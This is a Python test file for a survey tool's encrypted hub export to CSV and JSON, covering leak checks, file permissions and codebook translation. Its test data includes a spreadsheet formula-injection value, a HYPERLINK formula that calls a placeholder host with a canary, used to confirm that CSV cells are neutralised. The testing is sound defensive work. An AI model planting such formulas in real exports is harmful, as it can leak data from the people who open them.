"""Hub export: kits -> USB bundles -> hub -> CSV and JSON tables, codebook and
datapackage.json, checked against the decrypted records themselves.

Everything goes through the real CLI, the real hub store and real age files. The
canary typed into every free-text answer must come out exactly, and only inside
the export folder.
"""

from __future__ import annotations

import csv
import datetime
import hashlib
import json
import os
import re
import stat
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any

import pytest
from babel.messages.catalog import Catalog
from babel.messages.pofile import write_po
from click.testing import CliRunner, Result
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from fieldkit.cli import cli
from fieldkit.core.crypto import age
from fieldkit.core.crypto.hubkeys import generate_hub_keys, load_hub_identities
from fieldkit.kit.sealing import seal
from sync.hub.export import METADATA_COLUMNS
from sync.hub.export.writers import FORMULA_TRIGGERS, csv_cell, neutralise_formula
from sync.hub.store import HubStore
from sync.protocol.bundle import OutgoingRecord
from tests.bundle_corpus import enrol_key, make_bundle
from tests.conftest import scan_for
from tests.hub_backend import copy_hub
from tests.sync_cli import (
    PASSPHRASE,
    enrol,
    export,
    init_hub_folder,
    new_kit,
    run,
    write_passphrase_file,
)

CANARY = f"CANARY-{uuid.uuid4().hex}"
# The second kit's free text starts like a spreadsheet formula.
FORMULA_TEXT = f'=HYPERLINK("http://example.invalid/?{CANARY}")'
FRICTIONLESS_NAME = re.compile(r"[a-z0-9._/-]+")


# --- The world: a hub with two kits' records -----------------------------------------


class World:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.passphrase_file = write_passphrase_file(root)
        # A protected identity, as a hub keeps it, with a cheap scrypt so tests stay quick.
        keys = generate_hub_keys(root / "hub-keys", PASSPHRASE, work_factor=10)
        self.identity = keys.identity_path
        self.recipient = keys.recipient
        self.hub = init_hub_folder(root, keys.recipient_path.parent)
        self.kits: list[Path] = []
        usb = root / "usb"
        usb.mkdir()
        for name, text in (("kit-one", CANARY), ("kit-two", FORMULA_TEXT)):
            kit = new_kit(root, keys.recipient_path.parent, self.passphrase_file, name)
            enrol(self.hub, kit, self.passphrase_file, root)
            run(
                "simulate", "--data", kit, "--responses", 14, "--seed", len(self.kits),
                "--text-answer", text, "--passphrase-file", self.passphrase_file,
            )  # fmt: skip
            export(kit, usb / f"{name}.tar", self.passphrase_file)
            self.kits.append(kit)
        run("hub", "import", "--data", self.hub, *sorted(usb.glob("*.tar")))

    def export_args(self, hub: Path, out: Path, *extra: object) -> list[object]:
        return [
            "hub", "export", "--data", hub, "--identity", self.identity,
            "--passphrase-file", self.passphrase_file, "--out", out, *extra,
        ]  # fmt: skip


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return World(tmp_path_factory.mktemp("export-world"))


def invoke(*args: object) -> Result:
    return CliRunner().invoke(cli, [str(arg) for arg in args])


def payloads(hub: Path, identity: Path) -> dict[str, dict[str, Any]]:
    """Every accepted record of the hub, decrypted here with age directly."""
    identities = load_hub_identities(identity, PASSPHRASE)
    with HubStore(hub) as store:
        return {
            stored.record_id: json.loads(age.decrypt(stored.ciphertext, identities))
            for stored in store.iter_records()
        }


# --- Reading an export back ----------------------------------------------------------


def descriptor_of(out: Path) -> dict[str, Any]:
    return json.loads((out / "datapackage.json").read_text(encoding="utf-8"))


def read_rows(out: Path, resource: dict[str, Any]) -> tuple[list[str], list[dict[str, Any]]]:
    """(header, rows) of one resource; CSV cells stay text, JSON cells keep their JSON type."""
    path = out / resource["path"]
    if resource["format"] == "csv":
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.reader(handle)
            header = next(reader)
            return header, [dict(zip(header, row, strict=True)) for row in reader]
    rows = json.loads(path.read_text(encoding="utf-8"))
    header = list(rows[0]) if rows else [field["name"] for field in resource["schema"]["fields"]]
    for row in rows:
        assert list(row) == header, "every JSON object has every column, in order"
    return header, rows


def value_of(cell: Any, field: dict[str, Any], table_format: str) -> Any:
    """A cell read back as its field type says; special codes stay codes, empty is None."""
    if table_format == "json":
        if field["type"] == "integer" and cell not in (None, "prefer_not", "dont_know"):
            assert type(cell) is int
        return cell
    if cell == "":
        return None
    if cell in ("prefer_not", "dont_know"):
        return cell
    kind = field["type"]
    if kind == "integer":
        return int(cell)
    if kind == "number":
        return float(cell)
    if kind == "boolean":
        return {"true": True, "false": False}[cell]
    if cell.startswith("'"):
        assert cell[1:2] in (*FORMULA_TRIGGERS, "'"), "the guard is added only where needed"
        return cell[1:]
    return cell


def expected_value(value: Any) -> Any:
    """What a reader of either format gets for an answer: ticked choices joined with ';'."""
    if isinstance(value, list):
        return ";".join(value)
    return value


def assert_export_matches(out: Path, truth: dict[str, dict[str, Any]], table_format: str) -> None:
    """Every record once, every answer and metadata value equal to the decrypted payload."""
    descriptor = descriptor_of(out)
    seen: dict[str, str] = {}
    for resource in descriptor["resources"]:
        if resource["name"] in ("codebook", "versions"):
            continue
        fields = {field["name"]: field for field in resource["schema"]["fields"]}
        _header, rows = read_rows(out, resource)
        for row in rows:
            record_id = row["record_id"]
            assert record_id not in seen, f"{record_id} exported twice"
            seen[record_id] = resource["name"]
            payload = truth[record_id]
            values = {name: value_of(cell, fields[name], table_format) for name, cell in row.items()}
            assert values["kit_id"] == payload["kit_id"]
            assert values["form_version"] == payload["form"]["version"]
            assert values["language"] == payload["language"]
            # Records from before the field name one language; the column says so.
            assert values["languages"] == ";".join(payload.get("languages") or [payload["language"]])
            assert values["translation_complete"] == payload["translation"]["complete"]
            assert (values["started"], values["finished"]) == (payload["started"], payload["finished"])
            assert values["interviewer"] == payload.get("interviewer")
            answers = payload["answers"]
            for name in fields:
                if name in answers:
                    got, want = values[name], expected_value(answers[name])
                    if fields[name]["type"] == "number" and want not in ("prefer_not", "dont_know"):
                        assert got == pytest.approx(float(want), abs=0), name
                    else:
                        assert got == want, (record_id, name)
            # No answer is left out: every answer key is a column.
            assert set(answers) <= set(fields), set(answers) - set(fields)
    assert set(seen) == set(truth)


# --- Tests -----------------------------------------------------------------------------


@pytest.mark.parametrize("table_format", ["csv", "json"])
def test_export_holds_every_record_once_with_exactly_its_answers(
    world: World, tmp_path: Path, table_format: str
) -> None:
    out = tmp_path / "export"
    result = run(*world.export_args(world.hub, out, "--format", table_format))
    truth = payloads(world.hub, world.identity)
    assert len(truth) == 28
    assert_export_matches(out, truth, table_format)
    assert "plaintext" in result.output and "keep them on an encrypted disk" in result.output
    assert "centre-assessment.csv" in result.output or "centre-assessment.json" in result.output
    assert f"peer-interview.{table_format}" in result.output
    assert CANARY not in result.output
    # Private: the folder 0700, every file 0600, and nothing else in it.
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    names = {path.name: stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()}
    assert names == {
        f"centre-assessment.{table_format}": 0o600,
        f"peer-interview.{table_format}": 0o600,
        f"codebook.{table_format}": 0o600,
        f"versions.{table_format}": 0o600,
        "datapackage.json": 0o600,
    }
    # No staging folder is left beside it.
    assert sorted(path.name for path in tmp_path.iterdir()) == ["export"]


def test_free_text_is_guarded_against_formulas_in_csv_and_exact_in_json(world: World, tmp_path: Path) -> None:
    run(*world.export_args(world.hub, tmp_path / "csv"))
    run(*world.export_args(world.hub, tmp_path / "json", "--format", "json"))
    json_rows = json.loads((tmp_path / "json" / "peer-interview.json").read_text(encoding="utf-8"))
    # The formula text is in the CSV only behind an apostrophe; JSON keeps it as typed.
    guarded = "'" + FORMULA_TEXT
    with (tmp_path / "csv" / "peer-interview.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert guarded in cells and FORMULA_TEXT not in cells
    assert not [cell for cell in cells if cell[:1] in FORMULA_TRIGGERS]
    assert FORMULA_TEXT in {value for row in json_rows for value in row.values()}
    # Numbers stay numbers, negative ones included; every kind of trigger is caught.
    assert csv_cell(-3) == "-3" and csv_cell(-2.5) == "-2.5" and csv_cell(7) == "7"
    for trigger in (*FORMULA_TRIGGERS, "'"):
        assert neutralise_formula(trigger + "1+1") == "'" + trigger + "1+1"
    assert neutralise_formula("plain words") == "plain words"
    assert csv_cell(["a", "b"]) == "a;b" and csv_cell(True) == "true" and csv_cell(None) == ""


def test_the_canary_exists_only_inside_the_export_folders(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory
) -> None:
    system_tmp = Path(tempfile.gettempdir())
    own_tmp = tmp_path / "tmpdir"
    own_tmp.mkdir()
    monkeypatch.setenv("TMPDIR", str(own_tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(own_tmp))
    started = time.time() - 1
    outputs = []
    for table_format in ("csv", "json"):
        out = tmp_path / f"export-{table_format}"
        outputs.append(run(*world.export_args(world.hub, out, "--format", table_format)).output)
        assert scan_for(CANARY, out), "the canary is in the export"
    assert not any(CANARY in output for output in outputs)
    # Everything this module made (hub, kits, bundles, receipts, other tests' exports):
    # the canary may be only in files of an export folder, beside its datapackage.json.
    # Only this module's folders: the other modules run on the same worker leave
    # virtual environments and wheel bundles there, which took minutes to read.
    base = tmp_path_factory.getbasetemp()
    outside = [
        path for path in scan_for(CANARY, *_folders_of_this_module(base, world))
        if not (path.parent / "datapackage.json").is_file()
    ]  # fmt: skip
    assert outside == []
    assert scan_for(CANARY, world.hub) == [] and scan_for(CANARY, own_tmp) == []
    for kit in world.kits:
        assert scan_for(CANARY, kit) == []
    # And nothing new in the system's temporary folder holds it.
    assert _recent_files_holding(CANARY, system_tmp, since=started, skip=base) == []


def _folders_of_this_module(base: Path, world: World) -> list[Path]:
    """The world's folder and the ``tmp_path`` of every test here (pytest names those after the
    test, cut to 30 characters; a folder of another module whose test starts alike is kept too)."""
    prefixes = tuple(re.sub(r"\W", "_", name)[:30] for name in globals() if name.startswith("test_"))
    folders = [folder for folder in base.iterdir() if folder.is_dir() and folder.name.startswith(prefixes)]
    assert world.root.parent == base and any(folder.name.startswith("test_the_canary_exists") for folder in folders)
    return [world.root, *folders]


def _recent_files_holding(needle: str, root: Path, *, since: float, skip: Path) -> list[Path]:
    """Files under ``root`` changed since ``since`` that contain ``needle`` (``skip`` left out)."""
    hits = []
    for folder, dirs, files in os.walk(root, onerror=lambda error: None):
        dirs[:] = [name for name in dirs if Path(folder, name) != skip]
        for name in files:
            path = Path(folder, name)
            try:
                if path.is_symlink() or path.stat().st_mtime < since or path.stat().st_size > 8 << 20:
                    continue
                if needle.encode() in path.read_bytes():
                    hits.append(path)
            except OSError:
                continue
    return hits


def assert_valid_package(out: Path, table_format: str) -> dict[str, Any]:
    """``datapackage.json`` describes the folder's files exactly, as a Frictionless validator checks it."""
    descriptor = descriptor_of(out)
    for key in ("profile", "name", "title", "created", "resources"):
        assert key in descriptor
    assert FRICTIONLESS_NAME.fullmatch(descriptor["name"])
    assert descriptor["fieldkit"]["format"] == "fieldkit-export/1"
    described = set()
    names = [resource["name"] for resource in descriptor["resources"]]
    assert len(names) == len(set(names)), "resource names are unique"
    for resource in descriptor["resources"]:
        for key in ("name", "path", "format", "mediatype", "encoding", "schema", "bytes", "hash"):
            assert key in resource, (resource["name"], key)
        assert FRICTIONLESS_NAME.fullmatch(resource["name"])
        assert resource["format"] == table_format and resource["encoding"] == "utf-8"
        assert resource["mediatype"] == {"csv": "text/csv", "json": "application/json"}[table_format]
        path = out / resource["path"]
        assert path.is_file() and path.parent == out
        described.add(path.name)
        data = path.read_bytes()
        assert resource["bytes"] == len(data)
        assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
        schema = resource["schema"]
        assert "" in schema["missingValues"]
        fields = schema["fields"]
        assert len({field["name"] for field in fields}) == len(fields), "field names are unique"
        for field in fields:
            assert {"name", "type", "title", "description"} <= set(field)
            assert field["type"] in {"string", "integer", "number", "boolean", "date", "datetime"}
        header, rows = read_rows(out, resource)
        assert header == [field["name"] for field in fields]
        # Each cell fits its field: enums, patterns, types (special codes are missing values).
        for field in fields:
            constraints = field.get("constraints", {})
            for row in rows:
                cell = row[field["name"]]
                if cell in (None, *schema["missingValues"]):
                    continue
                value = value_of(cell, field, table_format)
                if "enum" in constraints:
                    assert value in constraints["enum"], (field["name"], value)
                if "pattern" in constraints:
                    assert re.fullmatch(constraints["pattern"], value), (field["name"], value)
                if field["type"] == "datetime":
                    datetime.datetime.strptime(value, field["format"])
                if field["type"] == "date":
                    datetime.date.fromisoformat(value)
                if field["type"] == "integer" and table_format == "json":
                    assert type(value) is int, (field["name"], value)
        if resource["name"] not in ("codebook", "versions"):
            assert schema["primaryKey"] == "record_id"
            assert len({row["record_id"] for row in rows}) == len(rows)
    assert described | {"datapackage.json"} == {path.name for path in out.iterdir()}
    return descriptor


@pytest.mark.parametrize("table_format", ["csv", "json"])
def test_datapackage_describes_the_files_exactly(world: World, tmp_path: Path, table_format: str) -> None:
    out = tmp_path / "export"
    run(*world.export_args(world.hub, out, "--format", table_format))
    descriptor = assert_valid_package(out, table_format)
    assert descriptor["fieldkit"]["records_exported"] == 28


def _write_catalogue(path: Path, entries: list[tuple[str | None, str, str, bool]]) -> None:
    catalogue = Catalog(locale="fr")
    for context, source, translation, fuzzy in entries:
        catalogue.add(source, translation, context=context, flags=("fuzzy",) if fuzzy else ())
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as handle:
        write_po(handle, catalogue)


def test_codebook_labels_come_in_the_chosen_language_with_english_fallback_flagged(
    world: World, tmp_path: Path, shipped_forms
) -> None:
    form = shipped_forms["peer-interview"]
    consent = form.item("consent")
    likert = next(item for item in form.items if item.type == "likert" and item.scale == "frequency")
    select = next(item for item in form.items if item.type == "select_one")
    fuzzy_item = next(item for item in form.items if item.type == "text")
    translations = tmp_path / "translations"
    _write_catalogue(
        translations / "fr" / "LC_MESSAGES" / "forms.po",
        [
            ("peer-interview/:title", form.title, "Entretien entre pairs", False),
            (f"peer-interview/{select.id}", select.label, "Question traduite", False),
            (
                f"peer-interview/{select.id}/{select.choices[0].id}",
                select.choices[0].label, "Premier choix", False,
            ),
            (f"peer-interview/{fuzzy_item.id}", fuzzy_item.label, "Brouillon à revoir", True),
        ],
    )  # fmt: skip
    _write_catalogue(
        translations / "fr" / "LC_MESSAGES" / "messages.po",
        [(None, "Never", "Jamais", False), (None, "Consent given", "Consentement donné", False)],
    )
    out = tmp_path / "export"
    run(*world.export_args(world.hub, out, "--lang", "fr", "--translations", translations))
    _header, rows = read_rows(out, {"path": "codebook.csv", "format": "csv"})
    by_place = {(row["table"], row["column"], row["value"]): row for row in rows}

    def row(column: str, value: str = "") -> dict[str, str]:
        return by_place[("peer-interview", column, value)]

    assert row(select.id)["label"] == "Question traduite"
    assert (row(select.id)["label_language"], row(select.id)["label_fallback"]) == ("fr", "false")
    assert row(select.id, select.choices[0].id)["label"] == "Premier choix"
    second = row(select.id, select.choices[1].id)
    assert (second["label"], second["label_language"], second["label_fallback"]) == (
        select.choices[1].label, "en", "true",
    )  # fmt: skip
    # A fuzzy translation is a draft: the English label is used, and flagged.
    assert (row(fuzzy_item.id)["label"], row(fuzzy_item.id)["label_fallback"]) == (fuzzy_item.label, "true")
    # Interface labels (likert scales, built-in answers) come from the messages catalogue.
    assert row(likert.id, "1")["label"] == "Jamais" and row(likert.id, "1")["label_language"] == "fr"
    assert row(likert.id, "5")["label_fallback"] == "true"
    assert row(consent.id, "given")["label"] == "Consentement donné"
    # The item's other facts travel with it.
    assert row(select.id)["tags"] == ";".join(select.tags)
    assert row(select.id)["item_type"] == "select_one" and row(select.id)["kind"] == "item"
    # The codebook says what each page is about (its topic), which the phone never shows:
    # the red flags' page has a neutral title on screen and its plain topic here.
    flag = next(item for item in form.items if item.is_red_flag)
    page = form.section_of(flag.id)
    assert page.topic and page.topic != page.title
    assert row(flag.id)["section"] == page.topic and row(select.id)["section"] == form.section_of(select.id).described
    descriptor = descriptor_of(out)
    titles = {resource["name"]: resource["title"] for resource in descriptor["resources"]}
    assert re.fullmatch(r"Entretien entre pairs \(versions 2(, \d+)+\)", titles["peer-interview"]), titles
    fields = {f["name"]: f for f in descriptor["resources"][1]["schema"]["fields"]}
    assert fields[select.id]["title"] == "Question traduite"
    assert descriptor["fieldkit"]["label_language"] == "fr"

    unknown = invoke(*world.export_args(world.hub, tmp_path / "other", "--lang", "xx"))
    assert unknown.exit_code == 1 and "no translations for 'xx'" in unknown.output
    assert len(unknown.output.strip().splitlines()) == 1 and not (tmp_path / "other").exists()


def test_a_protected_identity_with_a_wrong_passphrase_is_one_line_and_writes_nothing(
    world: World, tmp_path: Path
) -> None:
    wrong = tmp_path / "wrong.txt"
    wrong.write_text("not the passphrase\n")
    out = tmp_path / "export"
    result = invoke(
        "hub", "export", "--data", world.hub, "--identity", world.identity,
        "--passphrase-file", wrong, "--out", out,
    )  # fmt: skip
    assert result.exit_code == 1
    assert result.output.strip() == "Error: wrong passphrase for hub-identity.age (or the file is damaged)"
    assert not out.exists() and list(tmp_path.iterdir()) == [wrong]
    # Without a passphrase file and without a terminal, it says what to give.
    result = invoke("hub", "export", "--data", world.hub, "--identity", world.identity, "--out", out)
    assert result.exit_code == 1 and "--passphrase-file" in result.output
    assert len(result.output.strip().splitlines()) == 1


def _crafted_records(recipient: str, kit_id: str) -> tuple[list[OutgoingRecord], dict[str, str]]:
    """Records a kit may send: an older form version, another definition of version 3 (the shipped one),
    and three the hub cannot read (other key, damaged, not a record)."""
    hub = [age.parse_recipient(recipient)]
    other = [age.X25519Identity.generate().recipient()]
    ids = {name: str(uuid.uuid4()) for name in ("old", "changed", "other-key", "damaged", "not-a-record")}

    def payload(record_id: str, version: int, form_hash: str, answers: dict[str, Any]) -> dict[str, Any]:
        return {
            "format": "fieldkit-record/1", "record_id": record_id,
            "form": {"id": "peer-interview", "version": version, "hash": form_hash},
            "language": "en", "translation": {"catalogue_hash": None, "complete": True},
            "kit_id": kit_id, "started": "2025-03-01T09:00Z", "finished": "2025-03-01T10:00Z",
            "interviewer": "P07", "answers": answers,
        }  # fmt: skip

    old = seal(
        payload(ids["old"], 1, "sha256:" + "1" * 64,
                {"consent": "given", "old_rating": 4, "old_note": "=" + CANARY, "old_flags": ["a", "b"]}),
        hub,
    )  # fmt: skip
    changed = seal(
        payload(ids["changed"], 3, "sha256:" + "2" * 64,
                {"consent": "given", "staff_respect": 9, "dropped_item": "kept anyway"}),
        hub,
    )  # fmt: skip
    other_key = seal(payload(ids["other-key"], 3, "sha256:" + "3" * 64, {"consent": "given"}), other)
    damaged = bytearray(seal(payload(ids["damaged"], 3, "sha256:" + "4" * 64, {"consent": "given"}), hub))
    damaged[-5] ^= 0x01
    not_a_record = age.encrypt(json.dumps({"record_id": ids["not-a-record"]}).encode(), hub)
    sealed = [
        ("old", 1, old), ("changed", 3, changed), ("other-key", 3, other_key),
        ("damaged", 3, bytes(damaged)), ("not-a-record", 3, not_a_record),
    ]  # fmt: skip
    records = [
        OutgoingRecord(ids[name], kit_id, seq, "peer-interview", version, "2025-03-01", data)
        for seq, (name, version, data) in enumerate(sealed, start=1)
    ]
    return records, ids


def test_unreadable_records_are_reported_and_every_other_record_is_exported(
    world: World, tmp_path: Path
) -> None:
    hub = tmp_path / "hub"
    copy_hub(world.hub, hub)
    key = Ed25519PrivateKey.generate()
    records, ids = _crafted_records(world.recipient, "kit-crafted")
    with HubStore(hub) as store:
        enrol_key(store, key, "kit-crafted")
        assert store.import_bundle(make_bundle(key, "kit-crafted", records)).status == "accepted"
    out = tmp_path / "export"
    result = invoke(*world.export_args(hub, out))
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    lines = result.stderr.splitlines()
    assert f"record {ids['other-key']}: not exported: the identity does not open it" in result.stderr
    assert any(line.startswith(f"record {ids['damaged']}: not exported: the sealed record is damaged")
               for line in lines)  # fmt: skip
    assert f"record {ids['not-a-record']}: not exported: the decrypted payload is not a fieldkit-record/1" in (
        result.stderr
    )
    assert "Error: 3 of 33 records could not be exported (listed above); the other 30 are in" in result.output
    assert CANARY not in result.output

    # Every readable record is there, the older version and the changed one included.
    truth = payloads(world.hub, world.identity)
    identities = load_hub_identities(world.identity, PASSPHRASE)
    for record in records[:2]:
        truth[record.record_id] = json.loads(age.decrypt(record.ciphertext, identities))
    assert_export_matches(out, truth, "csv")

    descriptor = descriptor_of(out)
    resources = {resource["name"]: resource for resource in descriptor["resources"]}
    assert set(resources) == {"centre-assessment", "peer-interview-v1", "peer-interview", "codebook", "versions"}
    assert descriptor["fieldkit"]["records_not_exported"] == 3
    # The older version: columns from its answers, labels unavailable, types inferred.
    old_fields = {f["name"]: f for f in resources["peer-interview-v1"]["schema"]["fields"]}
    assert [name for name in old_fields][len(METADATA_COLUMNS):] == ["consent", "old_flags", "old_note", "old_rating"]
    assert old_fields["old_rating"]["type"] == "integer" and old_fields["old_note"]["type"] == "string"
    _header, old_rows = read_rows(out, resources["peer-interview-v1"])
    assert old_rows[0]["old_note"] == "'=" + CANARY and old_rows[0]["old_flags"] == "a;b"
    assert old_rows[0]["form_hash"] == "sha256:" + "1" * 64
    _header, codebook = read_rows(out, resources["codebook"])
    old_notes = {row["column"]: row["note"] for row in codebook if row["table"] == "peer-interview-v1"}
    unavailable = "labels unavailable: version 1 of peer-interview is not among the forms this hub knows"
    assert unavailable in old_notes["old_rating"]
    assert re.search(r"\(shipped, archived or packed: versions 2(, \d+)+\)", old_notes["old_rating"]), old_notes
    # Another definition of the current version: flagged, its extra answer kept in a column of its own.
    _header, rows = read_rows(out, resources["peer-interview"])
    changed = next(row for row in rows if row["record_id"] == ids["changed"])
    assert changed["form_hash"] == "sha256:" + "2" * 64 and changed["dropped_item"] == "kept anyway"
    assert changed["staff_respect"] == "9"
    assert {row["form_hash"] for row in rows if row["record_id"] != ids["changed"]} == {""}
    fields = {f["name"]: f for f in resources["peer-interview"]["schema"]["fields"]}
    assert "enum" not in fields["staff_respect"].get("constraints", {}), "9 is outside the scale"
    assert "1 made with another definition of this form version" in result.output


def test_the_output_folder_is_never_overwritten_by_mistake(world: World, tmp_path: Path) -> None:
    out = tmp_path / "export"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    refused = invoke(*world.export_args(world.hub, out))
    assert refused.exit_code == 1 and "is not empty" in refused.output and "--force" in refused.output
    forced = invoke(*world.export_args(world.hub, out, "--force"))
    assert forced.exit_code == 1 and "not a fieldkit export" in forced.output
    assert [path.name for path in out.iterdir()] == ["notes.txt"]
    # Inside the hub folder: refused, so the hub keeps ciphertext only.
    inside = invoke(*world.export_args(world.hub, world.hub / "export"))
    assert inside.exit_code == 1 and "overlaps the hub folder" in inside.output
    assert not (world.hub / "export").exists()
    # An empty folder is fine; an earlier export is replaced only with --force.
    empty = tmp_path / "empty"
    empty.mkdir()
    run(*world.export_args(world.hub, empty))
    again = invoke(*world.export_args(world.hub, empty, "--format", "json"))
    assert again.exit_code == 1 and "is not empty" in again.output
    run(*world.export_args(world.hub, empty, "--format", "json", "--force"))
    assert sorted(path.suffix for path in empty.iterdir()) == [".json"] * 5
    assert sorted(path.name for path in tmp_path.iterdir()) == ["empty", "export"]


def test_progress_bar_counts_records_on_stderr_when_asked(world: World, tmp_path: Path) -> None:
    result = run(*world.export_args(world.hub, tmp_path / "export", "--progress"))
    assert "Decrypting records" in result.stderr and "Decrypting records" not in result.stdout
    quiet = run(*world.export_args(world.hub, tmp_path / "quiet"))
    assert "Decrypting records" not in quiet.output


def test_an_unprotected_identity_needs_no_passphrase(world: World, tmp_path: Path) -> None:
    identities = load_hub_identities(world.identity, PASSPHRASE)
    plain = tmp_path / "hub-identity.txt"
    plain.write_text(identities[0].to_string() + "\n")
    out = tmp_path / "export"
    run("hub", "export", "--data", world.hub, "--identity", plain, "--out", out)
    assert len(list(out.glob("*.csv"))) == 4
    # A key that is not the hub's opens nothing: every record is reported, none leaks.
    stranger = tmp_path / "stranger.txt"
    stranger.write_text(age.X25519Identity.generate().to_string() + "\n")
    result = invoke("hub", "export", "--data", world.hub, "--identity", stranger, "--out", tmp_path / "x")
    assert result.exit_code == 1 and "is not the key of this hub" in result.stderr
    assert result.stderr.count("the identity does not open it") == 28
    _header, rows = read_rows(tmp_path / "x", {"path": "peer-interview.csv", "format": "csv"})
    assert rows == []
